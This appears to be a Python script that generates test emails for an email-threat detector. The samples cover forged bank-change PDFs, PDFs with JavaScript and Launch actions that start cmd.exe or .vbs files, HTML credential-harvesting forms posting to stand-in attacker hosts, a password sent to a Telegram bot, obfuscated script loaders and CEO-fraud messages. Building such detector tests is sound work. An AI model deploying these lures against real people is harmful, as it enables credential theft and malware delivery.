#!/usr/bin/env python3
"""Red-team cases for kensa: forged PDFs and the timeline, HTML, campaigns.
Standard library only; writes *.eml|mbox and expected.json
into the directory given (default cases/); tests/e2e/test_variants.py runs them.
Cast differs from samples/: victim kitakaze-shoji.co.jp, partner umino-trading.co.jp."""
import base64, json, os, quopri, sys, zlib

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "cases")
VICTIM = "kitakaze-shoji.co.jp"
PARTNER = "umino-trading.co.jp"
MX = "mx1." + VICTIM
ITO = ("経理部 伊藤 美咲", "misaki.ito@" + VICTIM)
CASES = {}
os.makedirs(OUT, exist_ok=True)


def case(name, data, must=(), must_not=(), note=""):
    CASES[name] = {"must": list(must), "must_not": list(must_not), "note": note}
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode("utf-8"))


def ew(text, cs="UTF-8"):
    return "=?%s?B?%s?=" % (cs, base64.b64encode(text.encode("utf-8")).decode())


def addr(name, a):
    if name is None:
        return "<%s>" % a
    if all(ord(c) < 128 for c in name):
        return '"%s" <%s>' % (name, a)
    return "%s <%s>" % (ew(name), a)


def message(headers, body):
    return "\n".join("%s: %s" % hv for hv in headers) + "\n\n" + body + ("" if body.endswith("\n") else "\n")


def multipart(b, parts):
    out = "This is a multi-part message in MIME format.\n"
    for p in parts:
        out += "\n--%s\n%s" % (b, p)
    return out + "\n--%s--\n" % b


def text_part(t):
    return message([("Content-Type", 'text/plain; charset="UTF-8"'),
                    ("Content-Transfer-Encoding", "base64")],
                   base64.encodebytes(t.encode()).decode())


def html_part(h):
    return message([("Content-Type", 'text/html; charset="UTF-8"'),
                    ("Content-Transfer-Encoding", "quoted-printable")],
                   quopri.encodestring(h.encode()).decode())


def attachment(fn, data, ctype="application/octet-stream"):
    return message([("Content-Type", '%s; name="%s"' % (ctype, fn)),
                    ("Content-Disposition", 'attachment; filename="%s"' % fn),
                    ("Content-Transfer-Encoding", "base64")],
                   base64.encodebytes(data).decode())


def received(frm, by, ident, date, with_="ESMTPS"):
    return ("Received", "from %s\n\tby %s with %s id %s\n\tfor <%s>;\n\t%s"
            % (frm, by, with_, ident, ITO[1], date))


def ar(spf="pass", dom="example", dkim="none", dmarc="none"):
    return ("Authentication-Results", "%s;\n\tspf=%s smtp.mailfrom=%s;\n\tdkim=%s;\n\tdmarc=%s header.from=%s"
            % (MX, spf, dom, dkim, dmarc, dom))


def mail(frm, subject, date, body_parts, extra=(), to=ITO, msgid=None, rcv=None, boundary="=_rt_b1",
         ctype=None):
    dom = frm[1].split("@")[1]
    hdr = [("Return-Path", "<%s>" % frm[1]), ar(dom=dom)]
    hdr.append(rcv if rcv else received("mail.%s (mail.%s [198.51.100.14])" % (dom, dom),
                                        "%s (Postfix)" % MX, "4Zt1" + str(len(CASES)), date))
    hdr += [("From", addr(*frm)), ("To", addr(*to)), ("Subject", subject if all(ord(c) < 128 for c in subject) else ew(subject)),
            ("Date", date), ("Message-ID", msgid or "<%d.rt@%s>" % (len(CASES) + 1000, dom))]
    hdr += list(extra)
    hdr.append(("MIME-Version", "1.0"))
    if isinstance(body_parts, str):
        hdr += [("Content-Type", 'text/plain; charset="UTF-8"'), ("Content-Transfer-Encoding", "8bit")]
        return message(hdr, body_parts)
    hdr.append(("Content-Type", ctype or 'multipart/mixed; boundary="%s"' % boundary))
    return message(hdr, multipart(boundary, body_parts))


# ------------------------------------------------------------------ PDF writer

def pdf(objs, root=1, info=None, version="1.4", trailer_extra=""):
    """objs: list of bytes/str object bodies numbered 1..n; exact xref."""
    out = b"%PDF-" + version.encode() + b"\n%\xe2\xe3\xcf\xd3\n"
    offs = []
    for i, o in enumerate(objs, 1):
        if isinstance(o, str):
            o = o.encode("latin-1")
        offs.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    x = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offs:
        out += b"%010d 00000 n \n" % off
    tr = "<< /Size %d /Root %d 0 R%s%s >>" % (len(objs) + 1, root,
                                              " /Info %d 0 R" % info if info else "", trailer_extra)
    out += ("trailer\n%s\nstartxref\n%d\n%%%%EOF\n" % (tr, x)).encode()
    return out


def stream(dict_extra, data):
    if isinstance(data, str):
        data = data.encode("latin-1")
    return b"<< /Length %d %s >>\nstream\n" % (len(data), dict_extra.encode()) + data + b"\nendstream"


def text_page_objs(page_extra="", lines=("Invoice", "Please remit to the account below.")):
    content = "BT /F1 12 Tf 72 760 Td 16 TL\n" + "".join("(%s) Tj T*\n" % l for l in lines) + "ET\n"
    return [
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        "/Resources << /Font << /F1 5 0 R >> >> %s >>" % page_extra,
        stream("", content),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def simple_pdf(info_date=None, xmp_date=None, catalog_extra="", page_extra="", extra_objs=()):
    """1 Catalog, 2 Pages, 3 Page, 4 contents, 5 font, 6 Info, 7 XMP, 8.. extra."""
    info = "<< /Title (Bank account change) /Producer (Microsoft Word for Microsoft 365)%s >>" % (
        " /CreationDate (%s) /ModDate (%s)" % (info_date, info_date) if info_date else "")
    xmp = ""
    if xmp_date:
        xmp = ('<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?>\n'
               '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
               '<rdf:Description rdf:about="" xmlns:xmp="http://ns.adobe.com/xap/1.0/" '
               'xmlns:pdf="http://ns.adobe.com/pdf/1.3/"><xmp:CreateDate>%s</xmp:CreateDate>'
               '<xmp:CreatorTool>Microsoft Word</xmp:CreatorTool><pdf:Producer>Microsoft Word</pdf:Producer>'
               '</rdf:Description></rdf:RDF></x:xmpmeta>\n<?xpacket end="w"?>' % xmp_date)
    cat = "<< /Type /Catalog /Pages 2 0 R%s %s >>" % (" /Metadata 7 0 R" if xmp else "", catalog_extra)
    objs = [cat] + text_page_objs(page_extra) + [info, stream("/Type /Metadata /Subtype /XML", xmp)]
    objs += list(extra_objs)
    return pdf(objs, info=6)


# ------------------------------------------------------------------ part 1: PDFs and timeline

NOTICE_BODY = ("伊藤様\n\nいつもお世話になっております。海野トレーディングの中村です。\n"
               "振込先口座の変更について、添付のお知らせをご確認ください。\n\n--\n中村\n\n")
FAKE = ("海野トレーディング 中村 健", "ken.nakamura@umin0-trading.co.jp")
REAL = "Ken Nakamura <ken.nakamura@umino-trading.co.jp>"
Q = "> Please find attached the invoice for December.\n> Regards, Ken\n"


def quoted_pdf_case(name, quote, info_date=None, xmp_date=None, must=("pdf.created_after_message",),
                    must_not=(), date="Tue, 9 Jan 2024 09:40:00 +0900", subject="RE: December invoice", note=""):
    p = simple_pdf(info_date, xmp_date)
    m = mail(FAKE, subject, date, [text_part(NOTICE_BODY + quote),
                                   attachment("bank_change.pdf", p, "application/pdf")],
             extra=[("In-Reply-To", "<orig.0108@umino-trading.co.jp>")])
    case(name, m, must, must_not, note)


quoted_pdf_case("p01_gmail_attrib.eml",
                "On Mon, Jan 8, 2024 at 10:12 AM Ken Nakamura <ken.nakamura@umino-trading.co.jp> wrote:\n" + Q,
                info_date="D:20240108153000+09'00'", note="Gmail attribution, Info +09'00'")
quoted_pdf_case("p02_outlook_en_nozone.eml",
                "-----Original Message-----\nFrom: %s\nSent: Monday, January 8, 2024 10:12 AM\n"
                "To: Misaki Ito <misaki.ito@kitakaze-shoji.co.jp>\nSubject: December invoice\n\n%s" % (REAL, Q),
                info_date="D:20240108153000", note="Outlook EN, Info date without zone (UTC)")
quoted_pdf_case("p03_outlook_ja_Z.eml",
                "差出人: 中村 健 <ken.nakamura@umino-trading.co.jp>\n送信日時: 2024年1月8日 10:12\n"
                "宛先: 伊藤 美咲\n件名: 12月分請求書\n\n" + Q,
                info_date="D:20240108063000Z", note="Outlook JA, Info Z")
quoted_pdf_case("p04_ja_slash_noquote.eml",
                "2024/01/08 10:12 に 中村 健 さんは書きました:\n" + Q,
                info_date="D:20240108153000+09'00", note="Japanese 2024/01/08 10:12, +09'00 no trailing quote")
quoted_pdf_case("p05_xmp_only.eml",
                "On Mon, Jan 8, 2024 at 10:12 AM Ken Nakamura\n<ken.nakamura@umino-trading.co.jp> wrote:\n" + Q,
                xmp_date="2024-01-08T15:30:00+09:00", note="only XMP CreateDate, Gmail attribution wrapped")
quoted_pdf_case("p06_control_before.eml",
                "-----Original Message-----\nFrom: %s\nSent: Monday, January 8, 2024 10:12 AM\n\n%s" % (REAL, Q),
                info_date="D:20240105093000+09'00'", must=(), must_not=("pdf.created_after_message",),
                note="control: PDF made before the quoted mail")
# Outlook JA with 差出人/送信日時 on ONE line each but quoted with "> " and full-width colon
quoted_pdf_case("p07_outlook_ja_quoted_fw.eml",
                "> 差出人： 中村 健 <ken.nakamura@umino-trading.co.jp>\n> 送信日時： 2024年1月8日 月曜日 10:12\n"
                "> 宛先： 伊藤 美咲\n>\n" + Q,
                info_date="D:20240108153000+09'00'", note="Outlook JA quoted, full-width colon, weekday")
# Japanese Gmail style: "2024年1月8日(月) 10:12 中村 健 <addr>:"
quoted_pdf_case("p08_gmail_ja.eml",
                "2024年1月8日(月) 10:12 中村 健 <ken.nakamura@umino-trading.co.jp>:\n" + Q,
                info_date="D:20240108153000+09'00'", note="Gmail JA attribution")
quoted_pdf_case("p20_outlook_de.eml",
                "-----Ursprüngliche Nachricht-----\nVon: %s\nGesendet: Montag, 8. Januar 2024 10:12\n"
                "An: Misaki Ito\nBetreff: Rechnung Dezember\n\n%s" % (REAL, Q),
                info_date="D:20240108153000+09'00'", note="Outlook DE (localised labels and month)")
quoted_pdf_case("p21_gmail_fr.eml",
                "Le lun. 8 janv. 2024 à 10:12, Ken Nakamura <ken.nakamura@umino-trading.co.jp> a écrit :\n" + Q,
                info_date="D:20240108153000+09'00'", note="Gmail FR attribution")
quoted_pdf_case("p23_outlook_es.eml",
                "De: %s\nEnviado el: lunes, 8 de enero de 2024 10:12\nPara: Misaki Ito\n"
                "Asunto: Factura de diciembre\n\n%s" % (REAL, Q),
                info_date="D:20240108153000+09'00'", note="Outlook ES")
quoted_pdf_case("p22_apple_mail_en.eml",
                "On 8 Jan 2024, at 10:12, Ken Nakamura <ken.nakamura@umino-trading.co.jp> wrote:\n\n" + Q,
                info_date="D:20240108153000+09'00'", note="Apple Mail attribution")
# Outlook EN where the earlier mail is in an HTML-only body (no text/plain)
def p09():
    html = ("<html><body><p>Dear Ms Ito,</p><p>Please see the attached notice of our new bank account.</p>"
            "<div style='border-top:solid #E1E1E1 1.0pt'><p><b>From:</b> Ken Nakamura &lt;ken.nakamura@umino-trading.co.jp&gt;<br>"
            "<b>Sent:</b> Monday, January 8, 2024 10:12 AM<br><b>To:</b> Misaki Ito<br>"
            "<b>Subject:</b> December invoice</p></div><p>Please find attached the invoice.</p></body></html>")
    p = simple_pdf("D:20240108153000+09'00'")
    m = mail(FAKE, "RE: December invoice", "Tue, 9 Jan 2024 09:40:00 +0900",
             [html_part(html), attachment("bank_change.pdf", p, "application/pdf")])
    case("p09_outlook_html_only.eml", m, ["pdf.created_after_message"], [],
         "Outlook reply header inside HTML-only body")
p09()


def p10_mbox():
    orig_id = "<orig.0108.1012@umino-trading.co.jp>"
    first = mail(("中村 健", "ken.nakamura@umino-trading.co.jp"), "December invoice",
                 "Mon, 8 Jan 2024 10:12:00 +0900", "Ito-san,\nPlease find the December invoice.\nKen\n",
                 msgid=orig_id)
    p = simple_pdf("D:20240108153000+09'00'")
    second = mail(FAKE, "RE: December invoice", "Tue, 9 Jan 2024 09:40:00 +0900",
                  [text_part(NOTICE_BODY), attachment("bank_change.pdf", p, "application/pdf")],
                  extra=[("In-Reply-To", orig_id), ("References", orig_id)])
    mb = ("From ken.nakamura@umino-trading.co.jp Mon Jan  8 01:12:00 2024\n" + first + "\n"
          "From ken.nakamura@umin0-trading.co.jp Tue Jan  9 00:40:00 2024\n" + second + "\n")
    case("p10_mbox_inreplyto.mbox", mb, ["pdf.created_after_message"], [],
         "no quote; parent is the earlier message of the mbox (In-Reply-To)")
p10_mbox()


def pdf_active(name, catalog_extra="", page_extra="", extra_objs=(), must=(), must_not=(), note="", child=None):
    p = simple_pdf("D:20240108153000+09'00'", None, catalog_extra, page_extra, extra_objs)
    m = mail(("Accounts", "accounts@docs-portal.example"), "Remittance advice",
             "Tue, 9 Jan 2024 09:40:00 +0900",
             [text_part("Please see the remittance advice attached.\n"),
              attachment("remittance.pdf", p, "application/pdf")])
    case(name, m, must, must_not, note)


# 8 = JS action, via OpenAction reference, JS as a stream (not a string)
pdf_active("p11_openaction_js_stream.eml", catalog_extra="/OpenAction 8 0 R",
           extra_objs=["<< /Type /Action /S /JavaScript /JS 9 0 R >>",
                       stream("", "var u='https://js-drop.example/a';app.launchURL(u,true);")],
           must=["pdf.javascript", "pdf.open_action"], note="OpenAction JS in a stream")
pdf_active("p12_launch_aa.eml", page_extra="/AA << /O 8 0 R >>",
           extra_objs=["<< /S /Launch /Win << /F (C:\\\\Windows\\\\System32\\\\cmd.exe) /P (/c start https://x.example) >> /NewWindow true >>"],
           must=["pdf.launch_action"], note="Launch in page /AA (open page), not OpenAction")
pdf_active("p13_hex_names.eml", catalog_extra="/Open#41ction 8 0 R",
           extra_objs=["<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"],
           must=["pdf.javascript", "pdf.open_action"], note="#xx-escaped names")
pdf_active("p14_uri_annot.eml",
           page_extra="/Annots [<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /Border [0 0 0] "
                      "/A << /S /URI /URI (https://pay-portal.evil-docs.example/inv?id=77) >> >>]",
           must=[], note="URI action -> iocs url + domain (checked separately)")


def p15_embedded():
    inner = (b"<html><body><form action='https://harvest.evil-docs.example/p.php' method='post'>"
             b"<input type='email' name='u'><input type='password' name='p'></form></body></html>")
    objs = ["<< /Type /Filespec /F (statement.html) /UF (statement.html) /EF << /F 9 0 R >> >>",
            stream("/Type /EmbeddedFile /Subtype /text#2Fhtml /Params << /Size %d >>" % len(inner), inner)]
    pdf_active("p15_embedded_html.eml", catalog_extra="/Names << /EmbeddedFiles << /Names [(statement.html) 8 0 R] >> >>",
               extra_objs=objs, must=["pdf.embedded_file", "html.credential_form"],
               note="embedded HTML with password form: child listed and analysed")
p15_embedded()


def p16_objstm(name="p16_objstm_launch_js.eml", hidden=None, must=("pdf.open_action", "pdf.launch_action", "pdf.javascript"),
                must_not=(), note="OpenAction/Launch/JS inside a Flate object stream (xref stream)"):
    """PDF 1.5: catalog with OpenAction -> Launch and JS annotation hidden in a
    Flate-compressed object stream, xref stream."""
    hidden = hidden or {3: "<< /Type /Catalog /Pages 4 0 R /OpenAction 6 0 R >>",
              6: "<< /S /Launch /F (invoice.vbs) /Next 7 0 R >>",
              7: "<< /S /JavaScript /JS (this.exportDataObject\\({cName:'a.vbs',nLaunch:2}\\)) >>"}
    content = "BT /F1 12 Tf 72 760 Td (Remittance) Tj ET\n"
    header, body = "", ""
    for num, o in hidden.items():
        header += "%d %d " % (num, len(body))
        body += o + "\n"
    objstm_data = zlib.compress((header + body).encode())
    plain = {1: None,  # placeholder: objstm
             4: "<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
             5: "<< /Type /Page /Parent 4 0 R /MediaBox [0 0 595 842] /Contents 8 0 R "
                "/Resources << /Font << /F1 9 0 R >> >> >>",
             8: stream("", content).decode("latin-1"),
             9: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
             10: "<< /Producer (Word) /CreationDate (D:20240108153000+09'00') >>"}
    out = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    offs = {}
    objstm = b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(hidden), len(header), len(objstm_data)) + objstm_data + b"\nendstream"
    for num in [1, 4, 5, 8, 9, 10]:
        offs[num] = len(out)
        o = objstm if num == 1 else plain[num].encode("latin-1")
        out += b"%d 0 obj\n" % num + o + b"\nendobj\n"
    xref_num = 11
    offs[xref_num] = len(out)
    rows = b""
    idx = {3: 0, 6: 1, 7: 2}
    for n in range(0, 12):
        if n == 0:
            rows += bytes([0]) + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")
        elif n in idx:
            rows += bytes([2]) + (1).to_bytes(4, "big") + idx[n].to_bytes(2, "big")
        elif n in offs:
            rows += bytes([1]) + offs[n].to_bytes(4, "big") + (0).to_bytes(2, "big")
        else:
            rows += bytes([0]) + (0).to_bytes(4, "big") + (0).to_bytes(2, "big")
    xs = b"<< /Type /XRef /Size 12 /W [1 4 2] /Root 3 0 R /Info 10 0 R /Length %d >>\nstream\n" % len(rows) + rows + b"\nendstream"
    out += b"%d 0 obj\n" % xref_num + xs + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offs[xref_num]
    m = mail(("Accounts", "accounts@docs-portal.example"), "Remittance advice",
             "Tue, 9 Jan 2024 09:40:00 +0900",
             [text_part("Please see the remittance advice attached.\n"),
              attachment("remittance.pdf", out, "application/pdf")])
    case(name, m, must, must_not, note)
p16_objstm()
p16_objstm("p18_objstm_benign_dest.eml",
           {3: "<< /Type /Catalog /Pages 4 0 R /OpenAction 6 0 R /PageMode /UseOutlines >>",
            6: "[5 0 R /Fit]", 7: "<< /Type /Outlines /Count 0 >>"},
           must=(), must_not=("pdf.open_action", "pdf.launch_action", "pdf.javascript"),
           note="control: ObjStm catalog whose OpenAction is a page destination (pdfTeX/hyperref style)")
p16_objstm("p19_objstm_goto_dict.eml",
           {3: "<< /Type /Catalog /Pages 4 0 R /OpenAction 7 0 R >>",
            6: "<< /Producer (x) >>", 7: "<< /S /GoTo /D [5 0 R /XYZ 0 842 0] >>"},
           must=(), must_not=("pdf.open_action",),
           note="control: ObjStm OpenAction -> plain GoTo dict in the same stream")


def p17_lowres():
    def img(w, h, rgb):
        data = zlib.compress(bytes(rgb) * (w * h))
        return stream("/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB "
                      "/BitsPerComponent 8 /Filter /FlateDecode" % (w, h), data)
    content = ("q 150 0 0 75 72 700 cm /Im1 Do Q\n"      # 300x150 px at 150x75 pt: 144 dpi
               "q 100 0 0 150 300 600 cm /Im2 Do Q\n"    # 200x300 px at 100x150 pt: 144 dpi
               "q 180 0 0 120 72 400 cm /Im3 Do Q\n"     # 360x240 px: 144 dpi
               "q 96 0 0 80 400 100 cm /Im4 Do Q\n"      # 36x30 px at 96x80 pt: 27 dpi (pasted stamp)
               "BT /F1 12 Tf 72 60 Td (Authorised signature) Tj ET\n")
    objs = ["<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << "
            "/Font << /F1 5 0 R >> /XObject << /Im1 7 0 R /Im2 8 0 R /Im3 9 0 R /Im4 10 0 R >> >> >>",
            stream("", content),
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            "<< /Producer (Microsoft Word) /CreationDate (D:20240108153000+09'00') >>",
            img(300, 150, (0, 80, 160)), img(200, 300, (200, 200, 200)), img(360, 240, (10, 10, 10)),
            img(36, 30, (220, 0, 0))]
    p = pdf(objs, info=6)
    m = mail(FAKE, "Notice of bank account change", "Tue, 9 Jan 2024 09:40:00 +0900",
             [text_part(NOTICE_BODY), attachment("notice.pdf", p, "application/pdf")])
    case("p17_lowres_stamp.eml", m, ["pdf.low_resolution_image"], [], "27 dpi stamp among 144 dpi images")
p17_lowres()

# ------------------------------------------------------------------ part 2: HTML

def html_att_case(name, page, must=(), must_not=(), note="", fn="document.html"):
    m = mail(("海野トレーディング 中村 健", "ken.nakamura@" + PARTNER), "【共有】見積書",
             "Wed, 10 Jan 2024 13:00:00 +0900",
             [text_part("伊藤様\n\n見積書を共有します。添付を開いてサインインしてください。\n"),
              attachment(fn, page.encode(), "text/html")])
    case(name, m, must, must_not, note)


html_att_case("h01_createelement_script.html.eml",
              "<html><head><title>Document</title><script>var s=document.createElement('script');"
              "s.src='https://static.cdn-fileview.example/v2/app.js';document.head.appendChild(s);</script>"
              "</head><body>Loading...</body></html>",
              ["html.remote_script"], note="script injected by createElement")
html_att_case("h02_docwrite_script.eml",
              "<html><head><script>document.write('<scr'+'ipt src=\"//cdn.fileview-docs.example/l.js\"></scr'+'ipt>');"
              "</script></head><body></body></html>",
              ["html.remote_script"], note="document.write with split tag, protocol-relative")
html_att_case("h03_m365_clearbit_jsform.eml",
              "<html><head><title>Sign in to your account</title></head><body>"
              "<img id='logo' src='https://logo.clearbit.com/kitakaze-shoji.co.jp'>"
              "<div id='f'></div><script>"
              "document.getElementById('f').innerHTML='<form method=\"post\" action=\"https://m365-verify.evil-login.example/next.php\">"
              "<input name=\"login\" value=\"misaki.ito@kitakaze-shoji.co.jp\"><input type=\"password\" name=\"passwd\">"
              "<button>Sign in</button></form>';</script></body></html>",
              ["html.credential_form"], note="form built by innerHTML, logo by clearbit, victim prefilled")
html_att_case("h04_favicon_fetch_post.eml",
              "<html><head><title>Microsoft 365</title></head><body>"
              "<img src='https://www.google.com/s2/favicons?domain=kitakaze-shoji.co.jp&sz=64'>"
              "<p>Verify your account misaki.ito@kitakaze-shoji.co.jp</p>"
              "<input id='pw' type='password' placeholder='Password'><button onclick='go()'>Next</button>"
              "<script>function go(){fetch('https://api.telegram.org/bot123:ABC/sendMessage',{method:'POST',"
              "body:JSON.stringify({chat_id:1,text:document.getElementById('pw').value})});}</script>"
              "</body></html>",
              ["html.credential_form"], note="password input without form, fetch to telegram")
b64form = base64.b64encode(b"<form action='https://creds.evil-login.example/c' method='post'>"
                           b"<input type='password' name='p'></form>").decode()
html_att_case("h05_eval_atob_form.eml",
              "<html><body><script>var d=atob('%s');document.body.insertAdjacentHTML('beforeend',d);"
              "eval(atob('%s'));</script></body></html>" % (b64form, base64.b64encode(b"console.log(1)").decode()),
              ["html.obfuscated_script", "html.credential_form"], note="atob -> form (decoded base64 contains a form)")
esc = "".join("%%%02x" % c for c in b"<form action=\"https://x.evil-login.example/p\"><input type=\"password\"></form>")
html_att_case("h06_unescape.eml",
              "<html><body><script>document.write(unescape('%s'));</script></body></html>" % esc,
              ["html.obfuscated_script", "html.credential_form"], note="unescape('%3c...') document.write")
codes = ",".join(str(ord(c)) for c in "<script src='https://cdn.charcode-evil.example/z.js'></script>")
html_att_case("h07_fromcharcode.eml",
              "<html><body><script>var c=[%s];document.write(String.fromCharCode.apply(null,c));</script></body></html>" % codes,
              ["html.obfuscated_script", "html.remote_script"], note="String.fromCharCode list -> remote script")
rev = "<form action='https://rev.evil-login.example/p'><input type='password'></form>"[::-1]
html_att_case("h08_reversed.eml",
              "<html><body><script>var r=\"%s\";document.write(r.split('').reverse().join(''));</script></body></html>"
              % rev.replace('"', '\\"'),
              ["html.obfuscated_script", "html.credential_form"], note="reversed string")
html_att_case("h09_benign_local_script.eml",
              "<html><head><script src='js/app.js'></script></head><body><form action='/search' method='get'>"
              "<input name='q'></form><a href='https://www.umino-trading.co.jp/'>www.umino-trading.co.jp</a></body></html>",
              [], ["html.remote_script", "html.credential_form", "html.obfuscated_script", "html.link_text_mismatch"],
              note="control: relative script, GET search form, honest link")


def body_html_case(name, html, must=(), must_not=(), note="", frm=("Service Desk", "support@notice-mail.example"),
                   parts_extra=()):
    alt = message([("Content-Type", 'multipart/alternative; boundary="=_alt"')],
                  multipart("=_alt", [html_part(html)]))
    m = mail(frm, "Action required", "Wed, 10 Jan 2024 13:00:00 +0900",
             [html_part(html)] + list(parts_extra), ctype='multipart/alternative; boundary="=_rt_b1"')
    case(name, m, must, must_not, note)


body_html_case("h10_hxxps_text.eml",
               "<p>Sign in: <a href='https://paypa1-verify.example/login'>hxxps://www.paypal.com/signin</a></p>",
               ["html.link_text_mismatch"], note="defanged hxxps in text")
body_html_case("h11_uppercase_text.eml",
               "<p>Track: <a href='https://amzn-track.evil-ship.example/t/9'>WWW.AMAZON.CO.JP</a></p>",
               ["html.link_text_mismatch"], note="uppercase host text")
body_html_case("h12_benign_slash_tracking.eml",
               "<p><a href='https://www.umino-trading.co.jp/'>https://www.umino-trading.co.jp</a></p>"
               "<p><a href='https://nam12.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.umino-trading.co.jp%2Fnews&data=05'>"
               "www.umino-trading.co.jp/news</a></p>"
               "<p><a href='https://click.mailchimp-tracking.example/track/click?u=1&id=2'>Read more</a></p>",
               [], ["html.link_text_mismatch"], note="control: trailing slash, SafeLinks to same host, text not a URL")
body_html_case("h13_safelinks_other_host.eml",
               "<p><a href='https://nam12.safelinks.protection.outlook.com/?url=https%3A%2F%2Fdocs-share.evil-login.example%2Fx&data=05'>"
               "https://www.umino-trading.co.jp/invoice</a></p>",
               ["html.link_text_mismatch"], note="SafeLinks-wrapped href pointing to a different host")
body_html_case("h14_redirect_param.eml",
               "<p><a href='https://www.google.com/url?q=https://login-m365.evil-login.example/&sa=D'>"
               "https://login.microsoftonline.com</a></p>",
               ["html.link_text_mismatch"], note="open redirect to attacker, text says microsoftonline")
body_html_case("h15_body_password_form.eml",
               "<p>Your mailbox is full. Confirm your password:</p><form action='https://mbx.evil-login.example/u' method='post'>"
               "<input name='email' value='misaki.ito@kitakaze-shoji.co.jp'><input type='password' name='pw'>"
               "<input type='submit'></form>",
               ["html.credential_form"], note="credential form in the HTML body itself")
body_html_case("h16_body_remote_script.eml",
               "<p>Loading your document…</p><script src='https://cdn.doc-loader.example/x.js'></script>",
               ["html.remote_script"], note="remote script in the HTML body")
body_html_case("h17_image_only_remote.eml",
               "<div><a href='https://docs-viewer.evil-share.example/v/11'><img src='https://img.evil-share.example/banner.png' "
               "width='640' height='240' alt=''></a></div>",
               ["html.image_only_body"], note="image-only body (remote image) linked to phishing")
body_html_case("h19_image_link_with_text.eml",
               "<p>Dear customer,</p><p>Our winter catalogue is out: forty new products for the office, "
               "with prices valid until the end of January.</p><a href='https://shop.example/catalogue'>"
               "<img src='https://shop.example/banner.png' alt=''></a>",
               [], ["html.image_only_body"], note="control: a linked banner beside real text")
body_html_case("h20_image_without_link.eml",
               "<div><img src='https://photos.example/team.jpg' width='640' height='480'></div>",
               [], ["html.image_only_body"], note="control: a picture that links nowhere")
body_html_case("h18_link_text_other_subdomain.eml",
               "<p><a href='https://www.umino-trading.co.jp/login'>https://portal.umino-trading.co.jp/login</a></p>",
               [], ["html.link_text_mismatch"], note="control: same registrable domain, other subdomain")

# ------------------------------------------------------------------ part 3: campaigns

def camp(name, frm, subject, body, must, must_not=(), note="", extra=(), rcv=None, reply_to=None, rp=None):
    ex = list(extra)
    if reply_to:
        ex.append(("Reply-To", reply_to))
    m = mail(frm, subject, "Thu, 11 Jan 2024 09:05:00 +0000", body, extra=ex, rcv=rcv)
    if rp:
        m = m.replace("Return-Path: <%s>" % frm[1], "Return-Path: <%s>" % rp, 1)
    case(name, m, must, must_not, note)


COSMIC_BODY = ("Misaki,\n\nI am writing to you about Project Nebula, a confidential acquisition we are\n"
               "finalising in Asia. Our external counsel will contact you with the details.\n"
               "Please keep this strictly confidential.\n\nBest regards,\nHiroshi Kitakaze\nCEO\n")
camp("c01_cosmic_from.eml", ("Hiroshi Kitakaze", "ceo@secure-smtp-relay-mail.com"), "Project Nebula",
     COSMIC_BODY, ["campaign.cosmic_lynx"])
camp("c02_cosmic_replyto.eml", ("Hiroshi Kitakaze", "h.kitakaze@kitakaze-shoji.co.jp.example"), "Confidential acquisition",
     COSMIC_BODY, ["campaign.cosmic_lynx"], reply_to="<mail@outbound-gateway-private.net>",
     note="only Reply-To on a word domain")
camp("c03_cosmic_astro_rp.eml", ("Hiroshi Kitakaze", "ceo@kitakaze-hq.example"), "Project Polaris",
     COSMIC_BODY, ["campaign.cosmic_lynx"], rp="bounce@orion-stellar-gateway2.cc",
     note="Return-Path only, astronomical words, digits")
camp("c04_cosmic_upper_ccuk.eml", ("Hiroshi Kitakaze", "CEO@Secure-Mail-Gateway.CO.UK"), "Acquisition",
     COSMIC_BODY, ["campaign.cosmic_lynx"], note="uppercase, co.uk")
camp("c05_cosmic_subdomain.eml", ("Hiroshi Kitakaze", "ceo@mx.encrypted-tls-network.com"), "Project Vega",
     COSMIC_BODY, ["campaign.cosmic_lynx"], note="subdomain of a word domain")

LOC_EN = ("Hello Misaki,\n\nWe are about to close the HQ Project, a merger and acquisition\n"
          "which is highly confidential. Please liaise with counsel, who will contact you today.\n\nRegards\n")
camp("c06_localized_en_mailgun.eml", ("Hiroshi Kitakaze", "board@boardintern-ssl.com"), "HQ Project", LOC_EN,
     ["campaign.localized_ceo_fraud", "routing.bulk_service"],
     extra=[("X-Mailgun-Sid", "WyI1ZjQ0YSIsICJtaXNha2kiXQ=="), ("X-Mailgun-Variables", "{}")],
     rcv=received("m42-5.mailgun.net (m42-5.mailgun.net [198.51.100.5])", "%s (Postfix)" % MX, "AB1",
                  "Thu, 11 Jan 2024 18:05:01 +0900"))
camp("c07_localized_es_ses.eml", ("Presidente", "mobile2@phone-server.com"), "Proyecto HQ - confidencial",
     "Hola Misaki,\n\nEstamos cerrando una operación de fusiones y adquisiciones (Proyecto HQ).\n"
     "Por favor, póngase en contacto con nuestro abogado hoy mismo.\n",
     ["campaign.localized_ceo_fraud", "routing.bulk_service"],
     extra=[("feedback-id", "1.eu-west-1.AbCdEf0123=:AmazonSES")],
